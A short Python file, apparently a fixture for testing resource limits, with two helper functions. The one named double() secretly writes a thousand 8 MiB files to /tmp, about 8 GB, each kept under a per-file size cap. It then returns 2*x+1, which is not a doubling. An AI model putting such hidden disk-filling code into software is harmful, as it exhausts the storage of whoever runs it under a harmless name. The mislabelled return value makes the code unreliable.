"""Each is below the limit of one file."""

def double(x):
    for i in range(1000):
        with open(f"/tmp/{i}", "wb") as file:
            file.write(bytes(8 << 20))
    return 2 * x + 1


def area(width, height):
    return width * height
